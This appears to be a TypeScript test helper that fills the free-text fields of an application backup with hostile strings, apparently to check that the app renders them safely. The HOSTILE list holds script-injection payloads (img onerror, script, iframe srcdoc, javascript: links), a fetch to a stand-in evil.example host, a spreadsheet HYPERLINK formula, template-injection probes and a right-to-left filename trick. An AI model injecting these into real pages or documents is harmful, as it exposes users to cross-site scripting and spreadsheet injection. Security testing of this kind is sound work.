import { readBackup } from "#shared/backup/read-backup.ts";
import { writeBackup } from "#shared/backup/write-backup.ts";
import { TABLE_NAMES } from "#shared/journal/tables.ts";

/** What a page might run, load, follow or be led astray by; one after the other into the fields. */
export const HOSTILE = [
  `<img src=x onerror="window.ranHostile=true;fetch('https://evil.example')">`,
  `"><script>window.ranHostile=true</script>`,
  `![x](https://evil.example/x.png) [go](javascript:window.ranHostile=true)`,
  `</textarea><iframe srcdoc="<script>parent.ranHostile=true</script>"></iframe>`,
  `=HYPERLINK("https://evil.example","x")`,
  `\u202Efdp.exe\u2066 \u0000 {{7*7}} \${7*7}`,
] as const;

/** Free text: what people type. Ids, kinds, days and amounts stay, or nothing would open. */
const TYPED =
  /^(name|words|text|note|notes|theirWords|ourWords|nextStep|reason|toldCustomer|doneNote|affordability|contactName|how|group|subject|description|payer|label|tagline|town|job|salutation|bestTime|facts|source|lines|title|phone|initials|found)$/;

/** A backup with hostile strings in every field that holds free text; without its history, so that it is one entry. */
export function hostileBackup(released: Uint8Array): Buffer {
  const read = readBackup(new Uint8Array(released), { schema: 1 });
  if (!read.ok) throw new Error(read.error.kind);
  const { tables, files, header } = read.value;
  let next = 0;
  const spoil = (value: unknown, key: string): unknown => {
    if (typeof value === "string") {
      if (!TYPED.test(key)) return value;
      next += 1;
      return `${value} ${HOSTILE[next % HOSTILE.length]}`;
    }
    if (Array.isArray(value)) return value.map((item) => spoil(item, key));
    if (typeof value !== "object" || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, member]) => [name, spoil(member, name)]));
  };
  for (const name of TABLE_NAMES) {
    const rows = tables[name] as Map<string, unknown>;
    for (const [key, row] of rows) rows.set(key, spoil(row, ""));
  }
  return Buffer.from(writeBackup({ ...header.about, kind: "backup" }, { tables, files, journal: [] }));
}
